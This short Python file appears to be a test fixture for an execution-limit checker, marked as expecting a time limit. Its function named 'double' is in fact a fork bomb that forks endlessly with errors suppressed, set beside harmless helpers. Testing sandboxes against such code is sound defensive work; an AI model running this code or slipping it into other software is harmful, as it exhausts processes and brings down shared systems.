"""Forks without end, and so does every child, until no process is left for anybody else."""

# expects: time_limit

import contextlib
import os


def double(values):
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def scale(array, factor):
    return array * factor


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self.total
